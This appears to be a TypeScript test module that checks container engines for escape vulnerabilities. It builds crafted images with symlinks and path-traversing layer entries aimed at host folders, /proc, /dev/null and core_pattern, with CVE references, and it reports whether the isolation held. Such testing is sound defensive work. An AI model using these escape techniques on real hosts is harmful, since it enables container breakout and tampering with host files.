// Images whose paths lead elsewhere than an engine believes: to the host's files, if it follows them by their names.

import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type Attack, escaped, held, NotPerformed, notApplicable, verdictOn } from "../attack.ts";
import { SECRET } from "../ground.ts";
import { type Lie, link } from "../liar.ts";
import type { Said } from "../target.ts";

const outcomeOf = ({ code, stderr }: Said) =>
  code === 0
    ? "it ran"
    : `it was refused: ${stderr
        .trim()
        .split("\n")[0]!
        .replace(/^.*?: /, "")}`;

export const linksForFolders: Attack = {
  name: "an image whose /etc, /dev, /sys and /tmp are the host's",
  cve: ["CVE-2015-3627", "CVE-2015-3629"],
  async perform(ground) {
    const victim = ground.hostFolder();
    const seen: string[] = [];
    const outcomes: string[] = [];
    for (const target of [victim, `../../../../../../..${victim}`]) {
      const image = await ground.image(["etc", "dev", "sys", "tmp"].map((name) => link(name, target)));
      const script = "ls /etc/ /dev/ /sys/ /tmp/; cat /etc/secret /dev/secret /tmp/secret";
      const said = await ground.target.run({ image, flags: ["--tmpfs", "/tmp"], command: ["sh", "-c", script] });
      if (said.stdout.includes(SECRET)) seen.push("a file of the host was read");
      outcomes.push(outcomeOf(said));
    }
    return verdictOn([...seen, ...ground.damageTo(victim)], {
      escaped: "it was followed",
      held: `the host's folder is as it was (${[...new Set(outcomes)].join("; ")})`,
    });
  },
};

export const linksForFiles: Attack = {
  name: "an image whose /etc/hosts and /etc/passwd are the host's",
  cve: ["CVE-2015-3629"],
  async perform(ground) {
    const victim = ground.hostFolder();
    const names = ["etc/hosts", "etc/hostname", "etc/resolv.conf", "etc/passwd"];
    const image = await ground.image(names.map((name) => link(name, `${victim}/secret`)));
    const command = ["cat", ...names.map((name) => `/${name}`)];
    const { stdout } = await ground.target.run({ image, flags: ["--user", "0"], command });
    if (stdout.includes(SECRET)) return escaped("a file of the host was read");
    if (!stdout.includes("localhost")) throw new NotPerformed("it has no /etc/hosts");
    return verdictOn(ground.damageTo(victim), {
      escaped: "it was followed",
      held: "the container got files of its own, and the host's is as it was",
    });
  },
};

export const usersWithoutEnd: Attack = {
  name: "an image whose /etc/passwd is a device without end",
  async perform(ground) {
    if (!ground.target.isEngine) return notApplicable("a runtime is told numbers, and looks up no users");
    const image = await ground.image([{ name: "etc/passwd", type: "char", major: 1, minor: 5 }]);
    const said = await ground.target.run({ image, flags: ["--user", "somebody"], command: ["true"] });
    return said.code === 125 ? held(outcomeOf(said)) : escaped("it was read");
  },
};

export const procElsewhere: Attack = {
  name: "an image whose /proc is a link to a folder of its own",
  cve: ["CVE-2019-19921", "CVE-2023-28642"],
  async perform(ground) {
    const image = await ground.image([link("proc", "/elsewhere"), { name: "elsewhere/sys/kernel", type: "directory" }]);
    const script = `
      for d in /proc /elsewhere; do
        (: >>$d/sys/kernel/core_pattern) 2>/dev/null && [ -e $d/self ] && echo $d/sys
        [ -n "$(head -c1 $d/keys 2>/dev/null)" ] && echo $d/keys
      done; echo done`;
    const said = await ground.target.run({ image, command: ["sh", "-c", script] });
    const lines = said.stdout.trim().split("\n");
    if (said.code === 0 && lines.pop() !== "done") throw new NotPerformed(said.stderr);
    return verdictOn(said.code === 0 ? lines : [], {
      escaped: "its masks are missing",
      held: said.code === 0 ? "a real /proc is there, with all of its masks" : outcomeOf(said),
    });
  },
};

export const maskByALink: Attack = {
  name: "a /dev whose null leads to what shall be masked",
  cve: ["CVE-2025-31133"],
  async perform(ground) {
    const folder = ground.hostFolder();
    symlinkSync("/proc/sys/kernel/core_pattern", join(folder, "null"));
    const script = `
      grep core_pattern /proc/self/mountinfo
      for f in keys interrupts timer_list; do [ -s /proc/$f ] && echo /proc/$f; done; echo done`;
    const said = await ground.target.run({ flags: ["-v", `${folder}:/dev`], command: ["sh", "-c", script] });
    const lines = said.stdout.trim().split("\n");
    if (said.code === 0 && lines.pop() !== "done") throw new NotPerformed(said.stderr);
    return verdictOn(said.code === 0 ? lines : [], {
      escaped: "in place of a mask there is",
      held: said.code === 0 ? "the masks are the host's own /dev/null" : outcomeOf(said),
    });
  },
};

export const consoleByALink: Attack = {
  name: "an image whose /dev/console and terminals are the host's",
  cve: ["CVE-2025-52565"],
  async perform(ground) {
    if (!ground.target.isEngine) return notApplicable("a runtime has to be given a terminal");
    const victim = ground.hostFolder();
    const names = ["dev/null", "dev/console", "dev/ptmx", "dev/pts"];
    const image = await ground.image(names.map((name) => link(name, `${victim}/secret`)));
    const command = ["sh", "-c", "echo written >/dev/null; echo shown >/dev/console"];
    const { code, stdout, stderr } = await ground.target.run({ image, flags: ["-t"], command });
    if (code !== 0 || stdout.trim() !== "shown") throw new NotPerformed(`${stdout}${stderr}`);
    return verdictOn(ground.damageTo(victim), {
      escaped: "it was followed",
      held: "what was written came out at its own terminal, and the host's file is as it was",
    });
  },
};

/** What the engine writes below /proc/sys, and on which file, shall not be for the container to say. */
export const redirectedWrite: Attack = {
  name: "have the engine's own writes to /proc land elsewhere",
  cve: ["CVE-2025-52881"],
  async perform(ground) {
    const folder = ground.hostFolder();
    mkdirSync(join(folder, "kernel"));
    const landed = join(folder, "kernel/msgmax");
    writeFileSync(landed, "untouched");
    const flags = ["--sysctl", "kernel.msgmax=9000", "-v", `${folder}:/proc/sys`];
    const said = await ground.target.run({ flags, command: ["true"] });
    if (readFileSync(landed, "utf8") !== "untouched")
      return escaped("a setting was written into a file of the container's");
    return held(`nothing was written there (${outcomeOf(said)})`);
  },
};

export const archivePaths: Attack = {
  name: "an image whose names and links lead out of its folder",
  cve: ["CVE-2014-6407", "CVE-2014-9356", "CVE-2014-9357"],
  async perform(ground) {
    if (!ground.target.isEngine) return notApplicable("a runtime unpacks no images");
    const victim = ground.hostFolder();
    const file = (name: string): Lie => ({ name, type: "file", content: "planted" });
    const layers: Lie[][] = [
      [file(`../../../../../../../../..${victim}/planted`)],
      [link("out", victim), file("out/planted")],
      [link("up", `../../../../../../../../..${victim}`), file("up/secret")],
      [{ name: "hard", type: "link", linkName: `../../../../../../../../..${victim}/secret` }],
      [{ name: "hard", type: "link", linkName: `${victim}/secret` }],
    ];
    const said = await Promise.all(
      layers.map(async (lies) => {
        const image = await ground.image(lies);
        return ground.target.run({ image, command: ["sh", "-c", "cat /hard; echo more >> /hard"] });
      }),
    );
    const read = said.filter(({ stdout }) => stdout.includes(SECRET)).map(() => "a file of the host was read");
    return verdictOn([...read, ...ground.damageTo(victim)], {
      escaped: "out there",
      held: `of ${layers.length} such images ${said.filter(({ code }) => code === 125).length} were refused, the others keep to their own folder`,
    });
  },
};
